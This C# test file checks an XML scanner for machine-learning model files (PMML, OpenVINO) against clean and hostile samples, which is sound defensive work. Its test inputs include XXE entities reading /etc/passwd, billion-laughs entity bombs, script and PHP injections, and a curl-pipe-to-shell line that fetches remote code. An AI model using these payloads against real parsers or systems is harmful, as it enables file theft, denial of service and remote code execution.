using System.Text;
using SupplyChainAnalyzers.Core.Findings;
using SupplyChainAnalyzers.Scanner.Tests.Scanning;

namespace SupplyChainAnalyzers.Scanner.Tests.Formats.Markup;

public class XmlScannerTests
{
    private const string Pmml = """
        <?xml version="1.0" encoding="UTF-8"?>
        <PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4">
          <Header copyright="x"><Extension name="user" value="someone" extender="R"/><Application name="SkLearn2PMML" version="0.1"/><Timestamp>2024-01-01 00:00:00</Timestamp></Header>
          <DataDictionary><DataField name="x" optype="continuous" dataType="double"/></DataDictionary>
          <TransformationDictionary><DefineFunction name="f" optype="continuous" dataType="double"><ParameterField name="a"/><Apply function="+"><FieldRef field="a"/><Constant>1</Constant></Apply></DefineFunction></TransformationDictionary>
          <RegressionModel functionName="regression"><MiningSchema><MiningField name="x"/></MiningSchema><RegressionTable intercept="1.5"><NumericPredictor name="x" coefficient="2"/></RegressionTable></RegressionModel>
          HERE
        </PMML>
        """;

    private const string OpenVino = """
        <?xml version="1.0"?>
        <net name="m" version="11">
          <layers>
            <layer id="0" name="x" type="Parameter" version="opset1"><data shape="1,4" element_type="f32"/></layer>
            <layer id="1" name="w" type="Const" version="opset1"><data element_type="f32" shape="4, 2" offset="0" size="32"/></layer>
            <layer id="2" name="s" type="Const" version="opset1"><data element_type="i64" shape="" offset="32" size="8"/></layer>
            HERE
          </layers>
          <edges/><rt_info><conversion_parameters><framework value="pytorch"/></conversion_parameters></rt_info>
        </net>
        """;

    [Theory]
    [InlineData(Pmml)]
    [InlineData(OpenVino)]
    [InlineData("<?xml version=\"1.0\"?><!DOCTYPE module PUBLIC \"-//Own//DTD\" \"http://example.org/configuration_1_3.dtd\"><module/>")]
    [InlineData("<root><a b=\"c\">text</a></root>")]
    [InlineData("<?xml version=\"1.0\"?><!DOCTYPE plist PUBLIC \"-//Apple//DTD PLIST 1.0//EN\" \"http://www.apple.com/DTDs/PropertyList-1.0.dtd\"><plist/>")]
    [InlineData("<?xml version=\"1.0\"?><!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\"><svg xmlns=\"http://www.w3.org/2000/svg\"><path d=\"M0 0\"/></svg>")]
    public void Honest_file_is_clean(string xml) => Is(Verdict.Clean, null, xml.Replace("HERE", "", StringComparison.Ordinal));

    [Theory]
    [InlineData("<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>")]
    [InlineData("<!DOCTYPE a [<!ENTITY x SYSTEM 'http://example.org/x'>]>")]
    [InlineData("<!DOCTYPE a [<!ENTITY x PUBLIC \"a\" \"http://example.org/x\">]>")]
    [InlineData("<!DOCTYPE a [<!ENTITY % x SYSTEM \"http://example.org/x.dtd\"> %x;]>")]
    [InlineData("<!DOCTYPE a SYSTEM \"http://example.org/a.dtd\">")]
    [InlineData("<!DOCTYPE a SYSTEM \"../../a.dtd\">")]
    public void What_makes_a_reader_fetch_files_is_SCA3160(string type)
    {
        foreach (var xml in new[] { Pmml, OpenVino })
            Is(Verdict.Malicious, Rules.XmlEntities, xml.Replace("HERE", "", StringComparison.Ordinal).Replace("?>", "?>" + type, StringComparison.Ordinal));
    }

    [Fact]
    public void Entities_in_UTF16_are_found_too()
    {
        var text = "<?xml version=\"1.0\" encoding=\"utf-16\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>";
        Assert.Equal(Verdict.Malicious, Scanned.Bytes([0xFF, 0xFE, .. Encoding.Unicode.GetBytes(text)]).Verdict);
    }

    [Fact]
    public void Billion_laughs_is_SCA3006() => Is(Verdict.Malicious, Rules.ResourceExhaustion,
        "<?xml version=\"1.0\"?><!DOCTYPE l [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;\">]><PMML version=\"4.3\">&c;</PMML>");

    [Fact]
    public void Quadratic_blow_up_is_not_clean()
    {
        var references = string.Concat(Enumerable.Repeat("&a;", 50_000));
        Assert.NotEqual(Verdict.Clean, Scan($"<?xml version=\"1.0\"?><!DOCTYPE l [<!ENTITY a \"{new string('a', 50_000)}\">]><l>{references}</l>").Verdict);
    }

    [Fact]
    public void Own_entities_are_suspicious() => Is(Verdict.Suspicious, Rules.XmlEntities, "<?xml version=\"1.0\"?><!DOCTYPE l [<!ENTITY a \"b\">]><l>&a;</l>");

    [Theory]
    [InlineData("<script>alert(1)</script>")]
    [InlineData("<Extension><script type=\"text/javascript\">x</script></Extension>")]
    [InlineData("<Extension name=\"x\" value=\"javascript:alert(1)\"/>")]
    [InlineData("<Extension name=\"x\" value=\"&lt;script>alert(1)&lt;/script>\"/>")]
    [InlineData("<![CDATA[<script>alert(1)</script>]]>")]
    [InlineData("<Extension name=\"x\" value=\"import os; os.system('curl http://198.51.100.7/x | sh')\"/>")]
    [InlineData("<Extension>import os; os.system('curl http://198.51.100.7/x | sh')</Extension>")]
    [InlineData("<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file:///etc/passwd\"/>")]
    [InlineData("<Extension library=\"/tmp/x.so\"/>")]
    [InlineData("<?php system('id'); ?>")]
    public void Script_or_library_in_a_model_is_SCA3161(string part)
    {
        foreach (var xml in new[] { Pmml, OpenVino })
            Is(Verdict.Malicious, Rules.MarkupActive, xml.Replace("HERE", part, StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>")]
    [InlineData("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>")]
    [InlineData("<a href=\"javascript:alert(1)\"/>")]
    [InlineData("<?xml version=\"1.0\"?><?xml-stylesheet type=\"text/xsl\" href=\"a.xsl\"?><a/>")]
    public void Script_in_other_markup_is_suspicious(string xml) => Is(Verdict.Suspicious, Rules.MarkupActive, xml);

    [Theory]
    [InlineData("<layer id=\"3\" name=\"c\" type=\"Const\" version=\"opset1\"><data element_type=\"f32\" shape=\"4,2\" offset=\"0\" size=\"16\"/></layer>")]
    [InlineData("<layer id=\"3\" name=\"c\" type=\"Const\" version=\"opset1\"><data element_type=\"f32\" shape=\"4,2\" offset=\"-32\" size=\"32\"/></layer>")]
    [InlineData("<layer id=\"3\" name=\"c\" type=\"Const\" version=\"opset1\"><data element_type=\"f32\" shape=\"4,2\" offset=\"18446744073709551584\" size=\"32\"/></layer>")]
    [InlineData("<layer id=\"3\" name=\"c\" type=\"Const\" version=\"opset1\"><data element_type=\"f32\" shape=\"4294967296,4294967296\" offset=\"0\" size=\"0\"/></layer>")]
    public void Constant_that_is_not_its_shape_is_SCA3162(string layer) => Is(Verdict.Malicious, Rules.ModelLie, OpenVino.Replace("HERE", layer, StringComparison.Ordinal));

    [Fact]
    public void Layer_of_an_extension_is_suspicious() => Is(Verdict.Suspicious, Rules.MarkupActive, OpenVino.Replace("HERE", "<layer id=\"3\" name=\"c\" type=\"Own\" version=\"extension\"/>", StringComparison.Ordinal));

    [Fact]
    public void Elements_nested_without_end_are_bounded() => Is(Verdict.Malicious, Rules.ResourceExhaustion, string.Concat(Enumerable.Repeat("<a>", 100_000)));

    [Fact]
    public void Attribute_without_end_is_bounded() => Is(Verdict.Malicious, Rules.ResourceExhaustion, "<a b=\"" + new string('x', 9 << 20) + "\"/>");

    [Fact]
    public void Broken_markup_is_unscannable() => Is(Verdict.Unscannable, Rules.Unscannable, "<a><b></a>");

    [Fact]
    public void Mutated_files_neither_throw_nor_hang()
    {
        var random = new Random(3160);
        string[] samples = [Pmml, OpenVino, "<?xml version=\"1.0\"?><!DOCTYPE l [<!ENTITY a \"b\"><!ENTITY c SYSTEM \"d\">]><l>&a;&c;</l>"];
        for (var round = 0; round < 3000; round++)
        {
            var bytes = Samples.Text(samples[random.Next(samples.Length)]);
            for (var changes = random.Next(1, 4); changes > 0; changes--)
                bytes[random.Next(bytes.Length)] = (byte)"<>&;\"'[]!?%/ aE\0"[random.Next(16)];
            _ = Scanned.Bytes(random.Next(5) == 0 ? bytes[..random.Next(bytes.Length)] : bytes).Verdict;
        }
    }

    private static Scanned Scan(string xml) => Scanned.Bytes(Samples.Text(xml), "model.xml");

    private static void Is(Verdict verdict, Rule? rule, string xml)
    {
        var scanned = Scan(xml);
        Assert.True(scanned.Verdict == verdict, xml + "\n" + scanned);
        if (rule is not null)
            Assert.Contains(rule, scanned.Doubts);
    }
}
